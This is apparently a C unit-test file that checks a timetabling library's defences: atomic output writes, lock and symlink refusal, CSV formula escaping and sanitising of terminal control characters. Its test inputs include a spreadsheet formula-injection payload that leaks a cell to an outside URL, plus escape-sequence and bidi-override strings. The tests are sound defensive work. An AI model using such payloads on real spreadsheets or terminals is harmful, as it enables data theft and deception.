/* test_outdir.c - writing outputs safely (issue 14), in the library: the
 * all-or-nothing output set (io/outdir.h) under failures injected at each
 * step, its lock, its refusal of links; single files through mkstemp
 * (io/files.h); inputs only from regular files; CSV cells that cannot become
 * formulas (io/sheet.h); messages that cannot drive a terminal (model/diag.h);
 * and no unbounded string copy left in the sources. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "util.h"
#include "io/csv_read.h"
#include "io/files.h"
#include "io/outdir.h"
#include "io/sheet.h"
#include "model/diag.h"

/* ---- helpers ------------------------------------------------------------------ */

static void put(const char *dir, const char *name, const char *text)
{
    char p[1024];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    FILE *f = fopen(p, "wb");
    assert_non_null(f);
    fputs(text, f);
    assert_int_equal(fclose(f), 0);
}

static char *get(const char *dir, const char *name)
{
    char p[1024];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    return tu_slurp(p, NULL);
}

/* Every entry of dir (hidden ones too) joined by ' ', sorted. */
static char *listing(const char *dir)
{
    DIR *dp = opendir(dir);
    if (!dp)
        return strdup("(none)");
    char *names[64];
    int n = 0;
    for (struct dirent *e; (e = readdir(dp)) != NULL && n < 64;)
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            names[n++] = strdup(e->d_name);
    closedir(dp);
    qsort(names, (size_t)n, sizeof *names, tu_cmp_str);
    char *out = calloc(4096, 1);
    for (int i = 0, at = 0; i < n; i++) {
        at += snprintf(out + at, 4096 - (size_t)at, "%s%s", i ? " " : "", names[i]);
        free(names[i]);
    }
    return out;
}

static void fresh_dir(char *buf, size_t n)
{
    snprintf(buf, n, "/tmp/pp_outdir_XXXXXX");
    assert_non_null(mkdtemp(buf));
}

static void rm_rf(const char *dir)
{
    char cmd[1200];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
    assert_int_equal(system(cmd), 0);
}

static int contains(const pp_diags *d, const char *what)
{
    for (int i = 0; i < pp_diags_count(d); i++)
        if (strstr(pp_diags_get(d, i), what))
            return 1;
    return 0;
}

/* A set of three files a.txt b.txt c.txt with text "new-NAME". */
static int write_set(pp_outdir *o, pp_diags *d)
{
    static const char *const names[] = { "a.txt", "b.txt", "c.txt" };
    for (int i = 0; i < 3; i++) {
        FILE *f = pp_outdir_create(o, names[i], d);
        if (!f)
            return -1;
        fprintf(f, "new-%s", names[i]);
        if (pp_outdir_finish(o, names[i], f, 0, d))
            return -1;
    }
    return pp_outdir_commit(o, d);
}

/* ---- all or nothing ------------------------------------------------------------ */

static void outdir_writes_the_set_and_leaves_nothing_else(void **state)
{
    (void)state;
    char dir[64];
    fresh_dir(dir, sizeof dir);
    put(dir, "keep.me", "user's file");
    put(dir, "a.txt", "old-a");
    pp_diags *d = pp_diags_new();
    pp_outdir *o = pp_outdir_open(dir, d);
    assert_non_null(o);
    assert_int_equal(write_set(o, d), 0);
    pp_outdir_close(o);
    assert_int_equal(pp_diags_count(d), 0);
    char *l = listing(dir), *a = get(dir, "a.txt"), *k = get(dir, "keep.me");
    assert_string_equal(l, "a.txt b.txt c.txt keep.me");
    assert_string_equal(a, "new-a.txt");
    assert_string_equal(k, "user's file");
    free(l);
    free(a);
    free(k);
    pp_diags_free(d);
    rm_rf(dir);
}

/* A rename into DIR fails at the first, second or third file: the files
 * already switched go back, the previous ones are restored, no temporary stays. */
static void outdir_failed_switch_restores_every_file(void **state)
{
    (void)state;
    for (int nth = 0; nth < 3; nth++) {
        char dir[64];
        fresh_dir(dir, sizeof dir);
        put(dir, "a.txt", "old-a");
        put(dir, "c.txt", "old-c");
        put(dir, "keep.me", "user's file");
        pp_diags *d = pp_diags_new();
        pp_outdir *o = pp_outdir_open(dir, d);
        assert_non_null(o);
        pp_outdir_inject_failure(o, PP_OUTDIR_FAIL_SWITCH, nth, EIO);
        assert_int_equal(write_set(o, d), -1);
        pp_outdir_close(o);
        assert_true(contains(d, "cannot rename into place"));
        assert_true(contains(d, "nothing was changed in the folder"));
        char *l = listing(dir), *a = get(dir, "a.txt"), *c = get(dir, "c.txt");
        assert_string_equal(l, "a.txt c.txt keep.me");
        assert_string_equal(a, "old-a");
        assert_string_equal(c, "old-c");
        free(l);
        free(a);
        free(c);
        pp_diags_free(d);
        rm_rf(dir);
    }
}

/* A full disk while a file is written: "disk full", and DIR as it was. */
static void outdir_full_disk_is_said_and_changes_nothing(void **state)
{
    (void)state;
    char dir[64];
    fresh_dir(dir, sizeof dir);
    put(dir, "b.txt", "old-b");
    pp_diags *d = pp_diags_new();
    pp_outdir *o = pp_outdir_open(dir, d);
    assert_non_null(o);
    pp_outdir_inject_failure(o, PP_OUTDIR_FAIL_WRITE, 1, ENOSPC);
    assert_int_equal(write_set(o, d), -1);
    pp_outdir_close(o);
    assert_true(contains(d, "b.txt: write failed: disk full (no space left on device)"));
    char *l = listing(dir), *b = get(dir, "b.txt");
    assert_string_equal(l, "b.txt");
    assert_string_equal(b, "old-b");
    free(l);
    free(b);
    pp_diags_free(d);
    rm_rf(dir);
}

/* A folder the run created (with its parents) goes again when the run fails. */
static void outdir_failed_run_removes_the_folders_it_made(void **state)
{
    (void)state;
    char root[64], dir[128];
    fresh_dir(root, sizeof root);
    snprintf(dir, sizeof dir, "%s/x/y/out/", root);
    pp_diags *d = pp_diags_new();
    pp_outdir *o = pp_outdir_open(dir, d);
    assert_non_null(o);
    FILE *f = pp_outdir_create(o, "a.txt", d);
    assert_non_null(f);
    assert_int_equal(pp_outdir_finish(o, "a.txt", f, 1, d), -1); /* the writer failed */
    pp_outdir_close(o);
    char *l = listing(root);
    assert_string_equal(l, "");
    free(l);
    pp_diags_free(d);
    rm_rf(root);
}

/* ---- links and the lock ---------------------------------------------------------- */

static void outdir_refuses_links_and_non_files(void **state)
{
    (void)state;
    char dir[64], link[80], victim[96];
    fresh_dir(dir, sizeof dir);
    snprintf(victim, sizeof victim, "%s/victim", dir);
    snprintf(link, sizeof link, "%s/out", dir);
    put(dir, "victim", "precious");
    assert_int_equal(mkdir(link, 0755), 0);
    char l2[128];
    snprintf(l2, sizeof l2, "%s/linked", dir);
    assert_int_equal(symlink(link, l2), 0);
    pp_diags *d = pp_diags_new();
    /* the folder itself a link, with and without a trailing slash */
    assert_null(pp_outdir_open(l2, d));
    char l3[140];
    snprintf(l3, sizeof l3, "%s/", l2);
    assert_null(pp_outdir_open(l3, d));
    assert_true(contains(d, "the output folder is a symbolic link"));
    /* an output name that is a link or a folder */
    char p[160];
    snprintf(p, sizeof p, "%s/a.txt", link);
    assert_int_equal(symlink(victim, p), 0);
    snprintf(p, sizeof p, "%s/b.txt", link);
    assert_int_equal(mkdir(p, 0755), 0);
    pp_outdir *o = pp_outdir_open(link, d);
    assert_non_null(o);
    assert_int_equal(write_set(o, d), -1);
    pp_outdir_close(o);
    assert_true(contains(d, "a.txt is a symbolic link"));
    assert_true(contains(d, "b.txt is a folder"));
    char *v = get(dir, "victim"), *l = listing(link);
    assert_string_equal(v, "precious");
    assert_string_equal(l, "a.txt b.txt");
    free(v);
    free(l);
    /* a lock file planted as a link to another file: refused, target untouched */
    snprintf(p, sizeof p, "%s/.paipian.lock", link);
    assert_int_equal(symlink(victim, p), 0);
    assert_null(pp_outdir_open(link, d));
    assert_true(contains(d, "it is a symbolic link"));
    v = get(dir, "victim");
    assert_string_equal(v, "precious");
    free(v);
    pp_diags_free(d);
    rm_rf(dir);
}

static void outdir_second_run_is_refused_while_the_first_holds_the_lock(void **state)
{
    (void)state;
    char dir[64], pid[128];
    fresh_dir(dir, sizeof dir);
    pp_diags *d = pp_diags_new();
    pp_outdir *first = pp_outdir_open(dir, d);
    assert_non_null(first);
    assert_null(pp_outdir_open(dir, d)); /* flock: another open file description conflicts */
    snprintf(pid, sizeof pid, "another paipian run (pid %ld) is writing into this folder", (long)getpid());
    assert_true(contains(d, pid));
    pp_outdir_close(first);
    pp_outdir *again = pp_outdir_open(dir, d); /* released: the next run may go */
    assert_non_null(again);
    pp_outdir_close(again);
    char *l = listing(dir);
    assert_string_equal(l, ""); /* the lock file goes with the run */
    free(l);
    pp_diags_free(d);
    rm_rf(dir);
}

/* A staging folder left by a killed run goes with the next run into DIR. */
static void outdir_removes_a_killed_runs_staging_folder(void **state)
{
    (void)state;
    char dir[64], stage[128];
    fresh_dir(dir, sizeof dir);
    snprintf(stage, sizeof stage, "%s/.paipian-stage.Ab12Cd", dir);
    assert_int_equal(mkdir(stage, 0700), 0);
    put(stage, "timetable.xml", "half");
    put(dir, ".paipian-stage.note", "a file, not ours to remove");
    pp_diags *d = pp_diags_new();
    pp_outdir *o = pp_outdir_open(dir, d);
    assert_non_null(o);
    pp_outdir_close(o);
    char *l = listing(dir);
    assert_string_equal(l, ".paipian-stage.note");
    free(l);
    pp_diags_free(d);
    rm_rf(dir);
}

static void outdir_refuses_a_path_over_the_limit(void **state)
{
    (void)state;
    char *p = malloc(PP_PATH_MAX + 2);
    memset(p, 'a', PP_PATH_MAX + 1);
    for (int i = 100; i < PP_PATH_MAX; i += 100)
        p[i] = '/';
    p[PP_PATH_MAX + 1] = '\0';
    pp_diags *d = pp_diags_new();
    assert_null(pp_outdir_open(p, d));
    assert_true(contains(d, "the output folder's path is 4096 bytes long; expected at most"));
    pp_diags_free(d);
    free(p);
}

/* ---- single files and inputs ---------------------------------------------------- */

static int write_hello(FILE *f, const void *ctx)
{
    fputs(ctx, f);
    return 0;
}

/* The temporary is private (mkstemp): a link planted at the old guessable
 * name (.NAME.tmp, .NAME.PID.tmp) is never followed; a link as the target is
 * refused. */
static void single_file_goes_through_a_private_temporary(void **state)
{
    (void)state;
    char dir[64], path[128], p[160];
    fresh_dir(dir, sizeof dir);
    put(dir, "victim", "precious");
    snprintf(path, sizeof path, "%s/out.txt", dir);
    snprintf(p, sizeof p, "%s/.out.txt.tmp", dir);
    char victim[96];
    snprintf(victim, sizeof victim, "%s/victim", dir);
    assert_int_equal(symlink(victim, p), 0);
    snprintf(p, sizeof p, "%s/.out.txt.%ld.tmp", dir, (long)getpid());
    assert_int_equal(symlink(victim, p), 0);
    pp_diags *d = pp_diags_new();
    assert_int_equal(pp_file_write_atomic(path, write_hello, "hello", d), 0);
    char *o = get(dir, "out.txt"), *v = get(dir, "victim");
    assert_string_equal(o, "hello");
    assert_string_equal(v, "precious");
    free(o);
    free(v);
    unlink(path);
    assert_int_equal(symlink(victim, path), 0);
    assert_int_equal(pp_file_write_atomic(path, write_hello, "evil", d), -1);
    assert_true(contains(d, "is a symbolic link; expected a regular file"));
    v = get(dir, "victim");
    assert_string_equal(v, "precious");
    free(v);
    pp_diags_free(d);
    rm_rf(dir);
}

/* A FIFO is refused without waiting for a writer, /dev/zero without reading it. */
static void inputs_must_be_regular_files(void **state)
{
    (void)state;
    char dir[64], fifo[96], why[512];
    fresh_dir(dir, sizeof dir);
    snprintf(fifo, sizeof fifo, "%s/fifo", dir);
    assert_int_equal(mkfifo(fifo, 0600), 0);
    alarm(20); /* a blocking open would hang the test: SIGALRM fails it instead */
    assert_null(pp_file_open_input(fifo, "a school", why, sizeof why));
    assert_string_equal(why, "the file is a FIFO (named pipe), not a regular file; expected a school");
    assert_null(pp_file_open_input("/dev/zero", "a school", why, sizeof why));
    assert_string_equal(why, "the file is a character device, not a regular file; expected a school");
    assert_null(pp_file_open_input(dir, "a school", why, sizeof why));
    assert_string_equal(why, "the file is a folder, not a regular file; expected a school");
    pp_diags *d = pp_diags_new();
    size_t len;
    assert_null(pp_read_file_limited("/dev/zero", 1 << 20, &len, d));
    assert_true(contains(d, "/dev/zero: the file is a character device"));
    alarm(0);
    pp_diags_free(d);
    rm_rf(dir);
}

/* ---- CSV cells ------------------------------------------------------------------- */

static char *cell_text(void (*put_fn)(FILE *, const char *), const char *v)
{
    char *out = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&out, &n);
    put_fn(f, v);
    fclose(f);
    return out;
}

static void csv_formula_like_text_gets_an_apostrophe(void **state)
{
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        { "=HYPERLINK(\"http://x/?leak=\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"点我\"\")\"" },
        { "+SUM(1,2)", "\"'+SUM(1,2)\"" },
        { "-2+3", "'-2+3" },
        { "@cmd", "'@cmd" },
        { "\t=1", "'\t=1" },
        { "\r=1", "\"'\r=1\"" },
        { "'=1", "''=1" },
        { "-0.5", "'-0.5" }, /* user text that looks like a number is still text */
        { "王小明", "王小明" },
        { "a=b", "a=b" },
        { "", "" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char *got = cell_text(pp_csv_put_cell, cases[i].in);
        assert_string_equal(got, cases[i].out);
        free(got);
    }
    /* numbers of ours stay numbers; anything else through the text path */
    static const struct {
        const char *in, *out;
    } nums[] = { { "-0.50", "-0.50" }, { "12", "12" }, { "1e-05", "1e-05" }, { "-3", "-3" }, { "=1", "'=1" }, { "-", "'-" } };
    for (size_t i = 0; i < sizeof nums / sizeof *nums; i++) {
        char *got = cell_text(pp_csv_put_number, nums[i].in);
        assert_string_equal(got, nums[i].out);
        free(got);
    }
}

/* What pp_csv_put_cell writes reads back (pp_sheet_set) as the same text. */
static void csv_protected_cells_read_back_unchanged(void **state)
{
    (void)state;
    static const char *const v[] = { "=1+1", "+x", "-2", "@a", "'=b", "''+c", "'plain", "x'=y", "-0.5", "普通" };
    size_t nv = sizeof v / sizeof *v;
    char *text = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&text, &len);
    fputs("h\r\n", f);
    for (size_t i = 0; i < nv; i++) {
        pp_csv_put_cell(f, v[i]);
        fputs("\r\n", f);
    }
    fclose(f);
    pp_diags *d = pp_diags_new();
    pp_sheet *sh = pp_csv_parse(text, len, "t.csv", "t", "utf-8", d);
    assert_non_null(sh);
    assert_int_equal(sh->nrows, (int)nv + 1);
    for (size_t i = 0; i < nv; i++)
        assert_string_equal(pp_sheet_cell(sh, (int)i + 1, 0), v[i]);
    pp_sheet_free(sh);
    pp_diags_free(d);
    free(text);
}

/* ---- messages ---------------------------------------------------------------------- */

static void messages_escape_terminal_controls_and_bidi_overrides(void **state)
{
    (void)state;
    pp_diags *d = pp_diags_new();
    pp_diags_add(d, "s.csv", 3, "class \"%s\" does not exist", "c\x1b[2J\x1b]0;pwned\x07\xe2\x80\xae" "cba\xe2\x81\xa6x\n\x7f\xc2\x85\xff");
    assert_string_equal(pp_diags_get(d, 0),
                        "s.csv:3: class \"c\\x1b[2J\\x1b]0;pwned\\x07\\u202ecba\\u2066x\\x0a\\x7f\\u0085\\xff\" does not exist");
    /* ordinary text, Chinese and emoji, is left alone */
    pp_diags_add(d, NULL, 0, "%s", "王小明 🙂 a\\b");
    assert_string_equal(pp_diags_get(d, 1), "王小明 🙂 a\\b");
    /* a message cut at the buffer's end keeps whole characters */
    char big[2000];
    memset(big, 'a', 1021);
    memcpy(big + 1021, "王王", 7);
    pp_diags_add(d, NULL, 0, "%s", big);
    assert_int_equal(strlen(pp_diags_get(d, 2)), 1021);
    pp_diags_free(d);
}

/* ---- memory safety in the sources ----------------------------------------------------- */

/* No unbounded copy into a buffer anywhere: strcat, strcpy, sprintf,
 * vsprintf, gets (the patterns are assembled so this file does not match). */
static void no_unbounded_string_copies_in_the_sources(void **state)
{
    (void)state;
    const char *dirs[] = { ".", "io", "model", "solver", "bench", "tests", "fuzz" };
    char pat[5][16];
    snprintf(pat[0], sizeof pat[0], "%s%s(", "str", "cat");
    snprintf(pat[1], sizeof pat[1], "%s%s(", "str", "cpy");
    snprintf(pat[2], sizeof pat[2], " %s%s(", "spr", "intf");
    snprintf(pat[3], sizeof pat[3], "%s%s(", "vspr", "intf");
    snprintf(pat[4], sizeof pat[4], " %s(", "gets");
    int bad = 0, files = 0;
    for (size_t k = 0; k < sizeof dirs / sizeof *dirs; k++) {
        const char *sfx[] = { ".c", ".h" };
        for (int s = 0; s < 2; s++) {
            int n;
            char **v = tu_list_files(dirs[k], sfx[s], &n);
            for (int i = 0; i < n; i++) {
                char *text = tu_slurp(v[i], NULL);
                files++;
                for (int p = 0; text && p < 5; p++)
                    for (const char *at = text; (at = strstr(at, pat[p])) != NULL; at++) {
                        /* the bounded forms (snprintf, vsnprintf, fgets) do not match */
                        print_message("%s: %s\n", v[i], pat[p]);
                        bad++;
                    }
                free(text);
                free(v[i]);
            }
            free(v);
        }
    }
    assert_true(files > 40);
    assert_int_equal(bad, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(outdir_writes_the_set_and_leaves_nothing_else),
        cmocka_unit_test(outdir_failed_switch_restores_every_file),
        cmocka_unit_test(outdir_full_disk_is_said_and_changes_nothing),
        cmocka_unit_test(outdir_failed_run_removes_the_folders_it_made),
        cmocka_unit_test(outdir_refuses_links_and_non_files),
        cmocka_unit_test(outdir_second_run_is_refused_while_the_first_holds_the_lock),
        cmocka_unit_test(outdir_removes_a_killed_runs_staging_folder),
        cmocka_unit_test(outdir_refuses_a_path_over_the_limit),
        cmocka_unit_test(single_file_goes_through_a_private_temporary),
        cmocka_unit_test(inputs_must_be_regular_files),
        cmocka_unit_test(csv_formula_like_text_gets_an_apostrophe),
        cmocka_unit_test(csv_protected_cells_read_back_unchanged),
        cmocka_unit_test(messages_escape_terminal_controls_and_bidi_overrides),
        cmocka_unit_test(no_unbounded_string_copies_in_the_sources),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
